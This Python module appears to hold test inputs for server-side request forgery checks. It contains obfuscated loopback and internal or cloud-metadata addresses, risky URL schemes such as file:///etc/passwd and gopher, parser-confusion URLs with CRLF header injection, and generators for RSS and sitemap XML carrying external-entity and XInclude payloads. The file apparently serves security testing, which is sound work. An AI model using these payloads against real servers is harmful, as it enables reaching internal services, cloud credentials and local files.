"""What is tried to lead a server into its own network: addresses, texts and feeds."""

# Ways to write 127.0.0.1 that one part or another of a system reads as that.
LOOPBACK_FORMS = """
127.0.0.1 127.1 127.0.1 0127.0.0.1 0177.0.0.1 0177.0.0.01 0177.1 0x7f.0.0.1 0x7f.1 0x7f000001
0x7F000001 2130706433 017700000001 127.0.0.1. 127.127.127.127 0.0.0.0 0 0x0 00.0.0.0
①②⑦.⓪.⓪.① 127。0。0。1 127．0．0．1 %31%32%37.0.0.1 localhost LOCALHOST localhost. 127.0.0.1%00
[::1] [::] [0:0:0:0:0:0:0:1] [0000::0001] [::ffff:127.0.0.1] [::ffff:7f00:1]
[0:0:0:0:0:ffff:7f00:1] [::127.0.0.1] [64:ff9b::127.0.0.1] [64:ff9b::7f00:1] [::1%25lo] [::1%lo]
"""
# What names are made to resolve to: this machine, its neighbours, and the metadata of clouds.
INNER_ADDRESSES = """
0.0.0.0 10.0.0.1 10.255.255.254 100.64.0.1 100.100.100.200 127.0.0.1 127.0.0.53 169.254.0.1
169.254.169.254 169.254.170.2 172.16.0.1 172.31.255.254 192.0.0.192 192.0.2.1 192.88.99.1
192.168.0.1 192.168.255.254 198.18.0.1 198.51.100.1 203.0.113.1 224.0.0.1 239.255.255.250
240.0.0.1 255.255.255.255 168.63.129.16 :: ::1 ::ffff:127.0.0.1 ::ffff:169.254.169.254
::ffff:10.0.0.1 ::127.0.0.1 64:ff9b::7f00:1 64:ff9b::a9fe:a9fe 64:ff9b:1::7f00:1 100::1
2001:0:7f00:1:: 2001:db8::1 2002:7f00:1:: 2002:a9fe:a9fe:: fc00::1 fd00:ec2::254 fe80::1 fec0::1
ff02::1
"""
SCHEMES = """
file:///etc/passwd ftp://127.0.0.1/ gopher://127.0.0.1:{port}/_GET dict://127.0.0.1:{port}/
ldap://127.0.0.1:{port}/ tftp://127.0.0.1/ jar:http://127.0.0.1:{port}/!/ data:text/html,x
javascript:alert(1) unix:///var/run/docker.sock ws://127.0.0.1:{port}/ http+unix://%2fvar%2frun/
//127.0.0.1:{port}/ http:127.0.0.1:{port}
"""
# Texts that one reader of addresses takes for one host and another for the canary's.
CONFUSING = (
    "http://site.test@127.0.0.1:{port}/",
    "http://127.0.0.1:{port}@site.test:{port}/",
    "http://site.test:{port}\\@127.0.0.1:{port}/",
    "http://site.test:{port}#@127.0.0.1:{port}/",
    "http://127.0.0.1:{port}\\.site.test/",
    "http://127.0.0.1:{port}/\r\nHost: site.test",
    "http://127.0.0.1 :{port}/",
    "http://\t127.0.0.1:{port}/",
    "http://user:word@127.0.0.1:{port}/",
    "http:///127.0.0.1:{port}/",
    "http:\\\\127.0.0.1:{port}\\",
    "http://127.0.0.1:{port}:80/",
    "http://127.0.0.1:22/",
    "http://[::1]:6379/",
)


def write_feeds(target: str) -> dict[str, str]:
    """Return feeds and sitemaps, by name, that lead to `target` by a link or by their XML."""
    return {
        "link": f"<rss><item><link>{target}</link></item></rss>",
        "atom": f"<feed><entry><link href='{target}'/></entry></feed>",
        "sitemap": f"<urlset><url><loc>{target}</loc></url></urlset>",
        "sitemaps": f"<sitemapindex><sitemap><loc>{target}</loc></sitemap></sitemapindex>",
        "file": "<rss><item><link>file:///etc/passwd</link></item></rss>",
        "dtd": f"<!DOCTYPE rss SYSTEM '{target}'><rss/>",
        "entity": f"<!DOCTYPE rss [<!ENTITY a SYSTEM '{target}'>]>"
        "<rss><item><link>&a;</link></item></rss>",
        "parameter": f"<!DOCTYPE rss [<!ENTITY % a SYSTEM '{target}'> %a;]><rss/>",
        "include": "<rss xmlns:x='http://www.w3.org/2001/XInclude'>"
        f"<x:include href='{target}'/></rss>",
        "style": f"<?xml-stylesheet href='{target}'?><rss/>",
        "schema": f"<rss xmlns:i='http://www.w3.org/2001/XMLSchema-instance' "
        f"i:noNamespaceSchemaLocation='{target}'/>",
    }
